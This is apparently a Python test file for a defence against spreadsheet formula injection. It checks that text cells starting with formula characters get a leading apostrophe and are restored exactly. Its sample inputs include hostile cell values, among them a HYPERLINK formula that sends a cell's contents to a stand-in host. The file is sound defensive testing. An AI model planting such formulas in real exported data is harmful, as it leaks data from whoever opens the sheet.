"""Text cells a spreadsheet cannot run: neutralised on the way out, restored exactly on the way in."""
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.spreadsheet_text import neutralise, restore

HOSTILE = ['=HYPERLINK("http://x"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "'=already quoted",
           "''", "'"]


@pytest.mark.parametrize("text, written", [
    ('=HYPERLINK("http://x"&A1,"x")', '\'=HYPERLINK("http://x"&A1,"x")'),
    ("+84912345678", "'+84912345678"),
    ("-5", "'-5"),
    ("@cmd", "'@cmd"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("'=x", "''=x"),
    ("Nguyễn Văn An", "Nguyễn Văn An"),
    ("'Ngọc", "'Ngọc"),
    ("", ""),
])
def test_a_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text, written):
    assert neutralise(text) == written


@given(st.one_of(st.sampled_from(HOSTILE), st.text()))
def test_restoring_a_neutralised_text_gives_the_text_back(text):
    assert restore(neutralise(text)) == text


@given(st.text())
def test_no_neutralised_text_starts_like_a_formula(text):
    assert neutralise(text)[:1] not in set("=+-@\t\r")
